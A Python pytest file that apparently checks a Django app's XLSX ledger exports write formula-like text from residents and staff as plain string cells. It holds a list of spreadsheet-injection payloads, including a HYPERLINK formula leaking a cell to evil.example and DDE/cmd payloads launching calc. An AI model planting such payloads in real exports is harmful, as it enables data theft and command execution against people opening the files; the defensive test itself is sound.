"""Spreadsheet (CSV/formula) injection: user text that starts like a formula (=, +, -, @, or a
tab or carriage return before one) is written to the ledgers as a string cell, never as a
formula, whoever typed it: residents (description, name), staff (a note, a place's name)."""

from __future__ import annotations

import io
import zipfile
from typing import Any

import openpyxl
import pytest
from django.test import Client

from civicgrid.needs import services
from civicgrid.needs.models import Kind
from civicgrid.needs.tests import factories as nf
from civicgrid.needs.workflow import By
from civicgrid.network.models import NodeKind
from civicgrid.network.tests import factories as netf

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
]


def download(client: Client, url: str) -> bytes:
    response: Any = client.get(url)
    assert response.status_code == 200, response.content[:300]
    return b"".join(response.streaming_content)


def cells(raw: bytes) -> list[Any]:
    book = openpyxl.load_workbook(io.BytesIO(raw))  # formulas kept as formulas, not values
    return [cell for row in book.worksheets[0].iter_rows() for cell in row]


def assert_no_formula(raw: bytes, texts: list[str]) -> None:
    found = {c.value: c.data_type for c in cells(raw) if isinstance(c.value, str)}
    for text in texts:
        assert found.get(text.strip()) == "s" or found.get(text) == "s", (text, found.get(text))
    assert not [c for c in cells(raw) if c.data_type == "f"]
    with zipfile.ZipFile(io.BytesIO(raw)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<f " not in sheet


def test_needs_ledger_writes_formula_like_text_as_strings():
    w = nf.world()
    odd_place = netf.node(NodeKind.SMALL_GRID, w.t["big1"], name="=SUM(9)")
    for index, text in enumerate(FORMULAS):
        nf.raise_need(w, description=text, contact_name=f"=N{index}()", node=odd_place)
    client = Client()
    client.force_login(netf.person("admin", is_superuser=True))
    raw = download(client, "/dashboard/ledgers/needs.xlsx")
    assert_no_formula(raw, [*FORMULAS, "=SUM(9)", "=N0()"])


def test_proactive_ledger_writes_formula_like_notes_as_strings():
    w = nf.world()
    for text in FORMULAS:
        services.proactive_record(
            by=By(w.dispatcher),
            kind=Kind.VISIT,
            category=nf.category(),
            node=w.t["gridA"],
            note=text,
            contact_name="=HYPERLINK(1)",
        )
    client = Client()
    client.force_login(w.dispatcher)
    raw = download(client, "/dashboard/ledgers/proactive.xlsx")
    assert_no_formula(raw, [*FORMULAS, "=HYPERLINK(1)"])


def test_kpi_ledger_writes_a_formula_like_node_name_as_a_string():
    w = nf.world()
    netf.node(NodeKind.BIG_GRID, w.t["comm1"], name="@SUM(1)")
    client = Client()
    client.force_login(w.dispatcher)
    raw = download(client, f"/dashboard/ledgers/kpis.xlsx?node={w.t['comm1'].pk}")
    assert_no_formula(raw, ["@SUM(1)"])
